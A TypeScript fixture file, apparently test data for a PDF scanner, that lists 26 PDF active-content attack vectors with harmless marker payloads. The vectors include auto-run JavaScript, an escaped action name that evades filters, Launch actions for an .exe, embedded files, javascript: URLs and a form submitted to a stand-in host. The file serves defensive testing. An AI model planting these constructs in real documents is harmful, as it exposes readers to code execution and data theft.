/** Occurs in every attack, and in no honest file. */
export const mark = 'studyshelfAttack'

/** How a reader comes to the object of an attack. */
export type Trigger =
  | 'catalog OpenAction'
  | 'catalog AA'
  | 'catalog AF'
  | 'catalog outline'
  | 'catalog form'
  | 'names JavaScript'
  | 'names EmbeddedFiles'
  | 'page AA'
  | 'page link'
  | 'page button'
  | 'page annotation'

export interface Kind {
  name: string
  trigger: Trigger
  /** On one line, so that it can be hidden in a comment. `ATTACHED` becomes a reference to an attached file. */
  dict: string
}

const script = `/S/JavaScript/JS(app.alert\\("${mark}"\\))`
const file = `/F(${mark}.exe)/EF<</F ATTACHED>>`
const annotation = (subtype: string, more: string) =>
  `<</Type/Annot/Subtype/${subtype}/Rect[50 50 250 150]/Mark(${mark})${more}>>`

const table: [name: string, trigger: Trigger, dict: string][] = [
  ['a script when opened', 'catalog OpenAction', `<<${script}>>`],
  ['a script after another action', 'catalog OpenAction', `<</S/GoTo/D[0/Fit]/Next<<${script}>>>>`],
  ['a script with an escaped name', 'catalog OpenAction', `<</S/J#61vaScript/JS(${mark})>>`],
  ['a program when opened', 'catalog OpenAction', `<</S/Launch/Win<</F(${mark}.exe)/P(/c)>>>>`],
  ['a web page when opened', 'catalog OpenAction', `<</S/URI/URI(https://${mark}.example)>>`],
  ['another document when opened', 'catalog OpenAction', `<</S/GoToR/F(//${mark}/a.pdf)/D[0/Fit]>>`],
  ['a script when closed', 'catalog AA', `<</WC<<${script}>>>>`],
  ['an associated file', 'catalog AF', `<</Type/Filespec/AFRelationship/Data${file}>>`],
  ['a script in the outline', 'catalog outline', `<<${script}>>`],
  ['an XFA form', 'catalog form', `[(${mark})ATTACHED]`],
  ['a script among the names', 'names JavaScript', `<<${script}>>`],
  ['an embedded file', 'names EmbeddedFiles', `<</Type/Filespec${file}>>`],
  ['a script on a page', 'page AA', `<</O<<${script}>>>>`],
  ['a script on a link', 'page link', `<<${script}>>`],
  ['a program on a link', 'page link', `<</S/Launch/F(${mark}.exe)>>`],
  ['a javascript: URL', 'page link', `<</S/URI/URI(javascript:alert\\("${mark}"\\))>>`],
  ['a data: URL', 'page link', `<</S/URI/URI(data:text/html,${mark})>>`],
  ['data imported by a link', 'page link', `<</S/ImportData/F(${mark}.fdf)>>`],
  ['a link into an embedded file', 'page link', `<</S/GoToE/D[0/Fit]/T<</R/C/N(${mark})>>>>`],
  ['a form that is sent', 'page button', `<</S/SubmitForm/F(https://${mark}.example)>>`],
  ['a script on a button', 'page button', `<<${script}>>`],
  ['an attached file', 'page annotation', annotation('FileAttachment', `/FS<</Type/Filespec${file}>>`)],
  ['rich media', 'page annotation', annotation('RichMedia', '/RichMediaContent<</Assets<<>>>>')],
  ['a film', 'page annotation', annotation('Movie', `/Movie<</F(${mark}.mov)>>/A true`)],
  ['a player', 'page annotation', annotation('Screen', `/A<</S/Rendition/OP 0/R<</S/MR>>>>`)],
  ['a model in 3D', 'page annotation', annotation('3D', '/3DD ATTACHED')],
]

export const kinds: readonly Kind[] = table.map(([name, trigger, dict]) => ({ name, trigger, dict }))
